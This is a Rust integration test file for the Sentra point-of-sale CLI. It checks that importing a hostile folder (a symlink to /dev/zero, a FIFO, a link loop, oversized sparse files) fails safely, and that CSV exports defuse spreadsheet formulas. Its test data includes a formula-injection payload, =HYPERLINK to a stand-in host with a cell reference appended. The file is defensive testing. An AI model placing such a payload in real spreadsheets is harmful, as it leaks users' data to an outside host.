//! The office and what a person hands it: hostile folders (a link to
//! `/dev/zero`, a FIFO, a link loop, a 200 MB file) among good export files,
//! the import command's output whatever happens, and CSV files that a
//! spreadsheet cannot be tricked into running.
//!
//! Everything runs the real binary; the hostile import is measured for
//! time and peak memory from outside.

mod common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{NOW_TEXT, sentra, sentra_ok};

/// A stall set up on the command line, with a product, a sale and an export
/// in `usb`; then a second sale and a second export. Returns the stall.
fn stall_with_two_exports(usb: &Path) -> tempfile::TempDir {
    let stall = common::cli_stall(None);
    let s = stall.path();
    let usb = usb.to_str().unwrap();
    sentra_ok(
        s,
        &[
            "product", "add", "--sku", "KRP-01", "--name", "Keripik", "--price", "10000",
        ],
    );
    sentra_ok(s, &["sale", "--item", "KRP-01=3", "--pay", "cash=30000"]);
    sentra_ok(s, &["export", "--out", usb]);
    sentra_ok(s, &["sale", "--item", "KRP-01=1", "--pay", "cash=10000"]);
    sentra_ok(s, &["export", "--out", usb]);
    stall
}

fn office() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    sentra_ok(
        dir.path(),
        &["init", "office", "--name", "Sentra UMKM Lampung"],
    );
    dir
}

fn export_files(usb: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(usb)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "sentra"))
        .collect();
    files.sort();
    files
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().expect("mkfifo");
    assert!(status.success(), "mkfifo {}", path.display());
}

/// How a measured run ended.
struct Run {
    ok: bool,
    stdout: String,
    stderr: String,
    /// The child's own peak resident set, in bytes.
    peak_rss: u64,
    took: Duration,
}

/// Runs the real binary, killing it (and failing) after `limit`, and reads
/// the child's peak resident set size from the kernel through `wait4`.
#[allow(clippy::zombie_processes)] // reaped by `wait4`, which `Child::wait` cannot measure
fn run_measured(dir: &Path, args: &[&str], limit: Duration) -> Run {
    let started = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_sentra"))
        .arg("--data-dir")
        .arg(dir)
        .args(args)
        .env("SENTRA_NOW", NOW_TEXT)
        .env_remove("SENTRA_DATA_DIR")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run sentra");
    let drain = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut text = String::new();
            let _ = pipe.read_to_string(&mut text);
            text
        })
    };
    let stdout = drain(Box::new(child.stdout.take().unwrap()));
    let stderr = drain(Box::new(child.stderr.take().unwrap()));
    let pid = child.id() as libc::pid_t;
    let (status, usage) = loop {
        let mut status = 0;
        // SAFETY: an all-zero rusage is a valid value; wait4 fills it in.
        let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
        // SAFETY: `pid` is our own child, not yet reaped (std's `Child` is
        // never waited on here); the pointers are to live locals.
        let reaped = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut usage) };
        assert!(
            reaped >= 0,
            "cannot measure the child: wait4 failed: {}",
            std::io::Error::last_os_error()
        );
        if reaped == pid {
            break (status, usage);
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            panic!(
                "sentra {args:?} still running after {limit:?}: killed (a FIFO or a link hung it?)"
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let took = started.elapsed();
    // Linux gives ru_maxrss in kilobytes.
    let peak_rss = u64::try_from(usage.ru_maxrss).unwrap() * 1024;
    assert!(
        peak_rss > 0,
        "cannot measure the child: wait4 gave no peak resident set size"
    );
    Run {
        ok: libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
        peak_rss,
        took,
    }
}

#[test]
fn a_hostile_folder_imports_the_good_files_and_refuses_the_rest_in_bounded_time_and_memory() {
    let usb = tempfile::tempdir().unwrap();
    let _stall = stall_with_two_exports(usb.path());
    let good = export_files(usb.path());
    assert_eq!(good.len(), 2, "{good:?}");

    let u = usb.path();
    std::os::unix::fs::symlink("/dev/zero", u.join("x.sentra")).unwrap();
    mkfifo(&u.join("y.sentra"));
    // A folder whose link leads back up to the folder holding it.
    std::fs::create_dir(u.join("sub")).unwrap();
    std::os::unix::fs::symlink("..", u.join("sub/loop")).unwrap();
    // 200 MB that cost no disk: a sparse file.
    let big = std::fs::File::create(u.join("big.sentra")).unwrap();
    big.set_len(200 * 1024 * 1024).unwrap();
    drop(big);
    // Five files just under the limit, each read whole: memory must not
    // hold them all at once.
    for n in 1..=5 {
        let near = std::fs::File::create(u.join(format!("nyaris-{n}.sentra"))).unwrap();
        near.set_len(60 * 1024 * 1024).unwrap();
    }

    let office = office();
    let run = run_measured(
        office.path(),
        &["import", u.to_str().unwrap()],
        Duration::from_secs(120),
    );
    eprintln!(
        "hostile folder: {:?}, peak resident set {} KB",
        run.took,
        run.peak_rss / 1024
    );
    let out = &run.stdout;
    assert!(!run.ok, "refused entries must make the import fail: {out}");
    for file in &good {
        let name = file.file_name().unwrap().to_str().unwrap();
        assert!(
            out.lines()
                .any(|l| l.contains(name) && l.contains(": diimpor (ST07, nomor")),
            "{name} not imported: {out}"
        );
    }
    let said = |name: &str, reason: &str| {
        assert!(
            out.lines()
                .any(|l| l.ends_with(&format!("{name}: {reason}"))),
            "{name} should be refused with «{reason}»:\n{out}"
        );
    };
    said("x.sentra", "tautan simbolik tidak diikuti");
    said(
        "y.sentra",
        "bukan berkas biasa (pipa/soket/perangkat): dilewati",
    );
    said("sub/loop", "tautan simbolik tidak diikuti");
    said("big.sentra", "berkas terlalu besar: 200 MB, batas 64 MB");
    // Each good file once: the loop did not walk the folder again.
    assert_eq!(out.lines().filter(|l| l.contains("diimpor")).count(), 2);
    for n in 1..=5 {
        said(
            &format!("nyaris-{n}.sentra"),
            "ditolak: bukan berkas ekspor Sentra",
        );
    }
    assert_eq!(out.lines().count(), 11, "{out}");
    assert!(
        run.stderr.contains("9 dari 11 berkas ditolak"),
        "{}",
        run.stderr
    );
    assert!(run.took < Duration::from_secs(60), "took {:?}", run.took);
    assert!(
        run.peak_rss < 256 * 1024 * 1024,
        "peak resident set {} MB",
        run.peak_rss / (1024 * 1024)
    );
    // The office holds both exports' records: nothing was lost by the rest.
    let stalls: serde_json::Value =
        serde_json::from_str(&sentra_ok(office.path(), &["--json", "stalls"])).unwrap();
    assert_eq!(stalls[0]["code"], "ST07");
    assert_eq!(stalls[0]["gaps"].as_array().unwrap().len(), 0);
}

#[test]
fn a_link_named_on_the_command_line_is_followed_once_but_must_lead_to_a_regular_file() {
    let usb = tempfile::tempdir().unwrap();
    let _stall = stall_with_two_exports(usb.path());
    let good = export_files(usb.path());
    let elsewhere = tempfile::tempdir().unwrap();
    let link = elsewhere.path().join("kiriman.sentra");
    std::os::unix::fs::symlink(&good[0], &link).unwrap();
    let zero = elsewhere.path().join("nol.sentra");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    let office = office();
    let (ok, stdout, _) = sentra(
        office.path(),
        &["import", link.to_str().unwrap(), zero.to_str().unwrap()],
    );
    assert!(!ok);
    assert!(stdout.contains("kiriman.sentra: diimpor (ST07"), "{stdout}");
    assert!(
        stdout.contains("nol.sentra: bukan berkas biasa (pipa/soket/perangkat): dilewati"),
        "{stdout}"
    );
}

#[test]
fn a_folder_with_no_export_files_says_so_and_fails() {
    let office = office();
    let empty = tempfile::tempdir().unwrap();
    std::fs::write(empty.path().join("catatan.txt"), "bukan ekspor").unwrap();
    for json in [false, true] {
        let mut args = vec!["import", empty.path().to_str().unwrap()];
        if json {
            args.insert(0, "--json");
        }
        let (ok, stdout, stderr) = sentra(office.path(), &args);
        assert!(!ok, "{stdout}");
        assert_eq!(
            stderr.trim(),
            format!(
                "galat: tidak ada berkas .sentra di {}",
                empty.path().display()
            )
        );
        if json {
            let document: serde_json::Value = serde_json::from_str(&stdout).unwrap();
            assert_eq!(document, serde_json::json!([]));
        }
    }
}

#[test]
fn json_lists_every_file_even_when_some_are_refused() {
    let usb = tempfile::tempdir().unwrap();
    let _stall = stall_with_two_exports(usb.path());
    let good = export_files(usb.path());
    std::fs::remove_file(&good[1]).unwrap();
    mkfifo(&usb.path().join("pipa.sentra"));
    std::fs::write(usb.path().join("rusak.sentra"), "bukan ekspor").unwrap();
    let office = office();
    let (ok, stdout, stderr) = sentra(
        office.path(),
        &["--json", "import", usb.path().to_str().unwrap()],
    );
    assert!(!ok);
    assert!(stderr.contains("2 dari 3 berkas ditolak"), "{stderr}");
    let document: serde_json::Value = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("not a JSON document ({e}):\n{stdout}"));
    let results = document.as_array().unwrap();
    assert_eq!(results.len(), 3, "{stdout}");
    let by_name = |name: &str| {
        results
            .iter()
            .find(|r| r["file"].as_str().unwrap().ends_with(name))
            .unwrap_or_else(|| panic!("{name} missing: {stdout}"))
    };
    let imported = by_name(good[0].file_name().unwrap().to_str().unwrap());
    assert_eq!(imported["status"], "imported");
    assert_eq!(imported["stats"]["stall"], "ST07");
    let pipe = by_name("pipa.sentra");
    assert_eq!(pipe["status"], "rejected");
    assert_eq!(
        pipe["reason"],
        "bukan berkas biasa (pipa/soket/perangkat): dilewati"
    );
    let broken = by_name("rusak.sentra");
    assert_eq!(broken["status"], "rejected");
    assert_eq!(broken["reason"], "ditolak: bukan berkas ekspor Sentra");
}

const FORMULA: &str = "=HYPERLINK(\"http://x\"&A1,\"klik\")";

/// Reads a CSV with DuckDB, as another program would: the columns' types as
/// DuckDB sniffed them, and the rows as JSON values. Fails if Python or
/// DuckDB is missing (.ci/run installs it).
fn duckdb_read(csv: &Path) -> (Vec<(String, String)>, Vec<Vec<serde_json::Value>>) {
    let script = r#"
import json, sys
import duckdb
rel = duckdb.read_csv(sys.argv[1], header=True)
rows = [[v if v is None or isinstance(v, (int, float, str)) else str(v) for v in row] for row in rel.fetchall()]
print(json.dumps({"columns": rel.columns, "types": [str(t) for t in rel.types], "rows": rows}))
"#;
    let output = Command::new("python3")
        .args(["-c", script])
        .arg(csv)
        .output()
        .expect("python3 is needed to read the CSV with DuckDB");
    assert!(
        output.status.success(),
        "DuckDB could not read {}: {}",
        csv.display(),
        String::from_utf8_lossy(&output.stderr)
    );
    let read: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let columns = read["columns"]
        .as_array()
        .unwrap()
        .iter()
        .zip(read["types"].as_array().unwrap())
        .map(|(c, t)| (c.as_str().unwrap().into(), t.as_str().unwrap().into()))
        .collect();
    let rows = read["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_array().unwrap().clone())
        .collect();
    (columns, rows)
}

fn column(columns: &[(String, String)], name: &str) -> (usize, String) {
    let index = columns
        .iter()
        .position(|(c, _)| c == name)
        .unwrap_or_else(|| panic!("no column {name}: {columns:?}"));
    (index, columns[index].1.clone())
}

fn is_number_type(kind: &str) -> bool {
    [
        "BIGINT", "INTEGER", "DOUBLE", "DECIMAL", "SMALLINT", "TINYINT", "HUGEINT",
    ]
    .iter()
    .any(|t| kind.starts_with(t))
}

#[test]
fn csv_files_hold_formulas_as_text_and_numbers_as_numbers() {
    let stall = tempfile::tempdir().unwrap();
    let s = stall.path();
    sentra_ok(
        s,
        &[
            "init",
            "stall",
            "--code",
            "ST08",
            "--name",
            FORMULA,
            "--regency",
            "1802",
        ],
    );
    sentra_ok(
        s,
        &[
            "product",
            "add",
            "--sku",
            "KRP-02",
            "--name",
            FORMULA,
            "--category",
            "@Promo",
            "--price",
            "12000",
        ],
    );
    sentra_ok(
        s,
        &[
            "product", "add", "--sku", "GULA", "--name", "Gula", "--price", "5000",
        ],
    );
    sentra_ok(s, &["stock", "receive", "KRP-02", "10"]);

    // The product CSV reads back into another stall as it was written.
    let products = s.join("produk.csv");
    sentra_ok(s, &["product", "export", products.to_str().unwrap()]);
    let other = common::cli_stall(None);
    sentra_ok(
        other.path(),
        &["product", "import", products.to_str().unwrap()],
    );
    let listed: serde_json::Value =
        serde_json::from_str(&sentra_ok(other.path(), &["--json", "product", "list"])).unwrap();
    let back = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["sku"] == "KRP-02")
        .unwrap_or_else(|| panic!("{listed}"));
    assert_eq!(back["name"], FORMULA);
    assert_eq!(back["category"], "@Promo");

    // Sold past its stock: a negative number, which must stay a number.
    sentra_ok(s, &["sale", "--item", "GULA=3", "--pay", "cash=15000"]);
    sentra_ok(s, &["sale", "--item", "KRP-02=2", "--pay", "cash=24000"]);
    sentra_ok(s, &["product", "export", products.to_str().unwrap()]);
    let (columns, rows) = duckdb_read(&products);
    let (name, name_type) = column(&columns, "name");
    let (category, category_type) = column(&columns, "category");
    let (price, price_type) = column(&columns, "price");
    let (stock, stock_type) = column(&columns, "stock");
    assert_eq!(
        (name_type.as_str(), category_type.as_str()),
        ("VARCHAR", "VARCHAR")
    );
    assert!(is_number_type(&price_type), "price is {price_type}");
    assert!(is_number_type(&stock_type), "stock is {stock_type}");
    let row = |sku: &str| {
        rows.iter()
            .find(|r| r[0] == sku)
            .unwrap_or_else(|| panic!("{sku}: {rows:?}"))
            .clone()
    };
    let formula = row("KRP-02");
    assert_eq!(formula[name], format!("'{FORMULA}"));
    assert_eq!(formula[category], "'@Promo");
    assert_eq!(formula[price].as_f64(), Some(12000.0));
    assert_eq!(formula[stock].as_f64(), Some(8.0));
    let sugar = row("GULA");
    assert_eq!(sugar[name], "Gula");
    assert_eq!(sugar[stock].as_f64(), Some(-3.0));

    // The province CSV: the stall's name as text, the rupiah as numbers.
    let usb = tempfile::tempdir().unwrap();
    sentra_ok(s, &["export", "--out", usb.path().to_str().unwrap()]);
    let office = office();
    let o = office.path();
    sentra_ok(o, &["import", usb.path().to_str().unwrap()]);
    let province = o.join("provinsi.csv");
    sentra_ok(
        o,
        &[
            "report",
            "centre",
            "--date",
            "2026-11-27",
            "--csv",
            province.to_str().unwrap(),
        ],
    );
    let (columns, rows) = duckdb_read(&province);
    let (stall_name, stall_name_type) = column(&columns, "stall_name");
    assert_eq!(stall_name_type, "VARCHAR");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0][stall_name], format!("'{FORMULA}"));
    for numeric in ["sales_count", "net", "takings", "cash"] {
        let (index, kind) = column(&columns, numeric);
        assert!(is_number_type(&kind), "{numeric} is {kind}");
        assert!(
            rows[0][index].is_number(),
            "{numeric}: {:?}",
            rows[0][index]
        );
    }
    let (net, _) = column(&columns, "net");
    assert_eq!(rows[0][net].as_f64(), Some(39000.0));
}
